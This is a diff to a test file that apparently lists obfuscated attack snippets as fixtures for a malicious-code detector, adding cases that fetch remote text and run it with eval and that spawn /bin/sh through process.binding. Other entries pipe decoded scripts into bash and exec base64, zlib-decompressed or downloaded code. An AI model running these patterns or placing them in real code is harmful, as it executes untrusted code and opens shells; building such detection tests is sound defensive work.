@@ -123,6 +123,12 @@ describe("attacks", () => {
       `run("bash", ["-c", 'echo "${ENCODED}" | base64 -d > /tmp/a']);`,
     ],
     ["run.sh", "a script in an archive", `sed rpath file | tr "A-Z" "N-M" | xz -d | /bin/bash`],
+    [
+      "index.js",
+      "an answer that is run later",
+      `(async()=>{const r=await fetch(u);const c=await r.text();(0,eval)(c)})();`,
+    ],
+    ["index.js", "what lies behind the modules", `process.binding("spawn_sync").spawn({ file: "/bin/sh" });`],
     ["module.py", "a decoded program", `import base64\nexec(base64.b64decode("cHJpbnQoMSk="))`],
     ["module.py", "a program that is decompressed", `exec(__import__('zlib').decompress(blob))`],
     ["module.py", "a program that is fetched", `exec(requests.get("https://files.invalid/a").text)`],
